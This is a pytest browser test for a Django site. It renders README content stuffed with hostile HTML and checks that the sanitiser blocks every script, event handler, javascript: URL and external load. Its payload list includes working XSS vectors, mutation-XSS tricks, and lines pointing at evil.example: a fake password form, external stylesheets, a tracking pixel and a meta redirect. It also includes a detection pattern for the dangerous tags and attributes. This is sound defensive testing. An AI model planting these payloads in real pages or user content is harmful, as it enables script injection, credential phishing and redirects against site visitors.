"""Hostile READMEs in a real browser: nothing executes, nothing loads, nothing is imitated."""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path

import pytest

from artifacts.models import Version
from tests.factories import make_artifact

# a folder of *_cards.jsonl.gz, each line {"id", "readme"}: the cards of real repositories
CARDS = os.environ.get("CARD_CORPUS", "")
BOMB = "window.bombed=1"
HOSTILE = [
    f"<script>{BOMB}</script>",
    f"<svg onload='{BOMB}'><script>{BOMB}</script><animate onbegin='{BOMB}' attributeName=x></svg>",
    f"<img src=x onerror='{BOMB}'>",
    f"<p hx-on:click='{BOMB}' hx-get='/arriving/' hx-trigger='load' hx-on--load='{BOMB}'>x</p>",
    "<p data-hx-get='/arriving/' data-hx-trigger='load'>x</p>",
    f"<a href='javascript:{BOMB}' autofocus onfocus='{BOMB}'>x</a>",
    f"<iframe src='javascript:parent.{BOMB}'></iframe><iframe src='https://evil.example'></iframe>",
    f"<object data='data:text/html,<script>parent.{BOMB}</script>'></object>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"<details open ontoggle='{BOMB}'><summary>x</summary></details>",
    "![x](https://evil.example/pixel.png) <video src='https://evil.example/v' autoplay></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={BOMB}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={BOMB}>'></noscript>",
]
LEFT = """() => [...document.querySelectorAll('.readme *')].flatMap(element => {
    const bad = [...element.attributes].filter(({name, value}) =>
        /^(on|hx-|data-|style|class|src|srcset|formaction|ping|target)/.test(name)
        || /^\\s*(javascript|data|vbscript):/i.test(value));
    const tag = /^(script|style|svg|math|img|iframe|form|input|object|embed|base|link|meta)$/i;
    return tag.test(element.tagName) ? [element.outerHTML] : bad.map(({name}) => name);
})"""


@pytest.mark.django_db(transaction=True)
def test_nothing_hostile_happens(open_page, charlie):
    artifact = make_artifact(readme="# Start\n\n" + "\n\n".join(HOSTILE) + "\n\nThe end.")
    page = open_page(charlie)
    page.goto(artifact.get_absolute_url())
    page.locator(".rating-panel").wait_for()
    assert page.get_by_text("Start").is_visible()
    assert page.evaluate("window.bombed") is None
    assert page.evaluate(LEFT) == []
    assert page.url.endswith(artifact.get_absolute_url())


@pytest.mark.slow
@pytest.mark.timeout(1800)
@pytest.mark.skipif(not CARDS, reason="CARD_CORPUS names no folder")
@pytest.mark.django_db(transaction=True)
def test_every_real_card_loads_and_runs_nothing(open_page, charlie):
    """Anything from elsewhere, any console message and any dialog fails it: see open_page."""
    artifact = make_artifact(rated=False)
    page = open_page(charlie)
    count = 0
    for path in sorted(Path(CARDS).glob("*_cards.jsonl.gz")):
        for line in gzip.decompress(path.read_bytes()).splitlines():
            card = json.loads(line)
            facts = artifact.current.facts | {"readme": card["readme"] or ""}
            Version.objects.filter(pk=artifact.current_id).update(facts=facts)
            page.goto(artifact.get_absolute_url(), wait_until="domcontentloaded")
            assert page.evaluate(LEFT) == [], card["id"]
            count += 1
    assert count
    print(f"{count} cards")
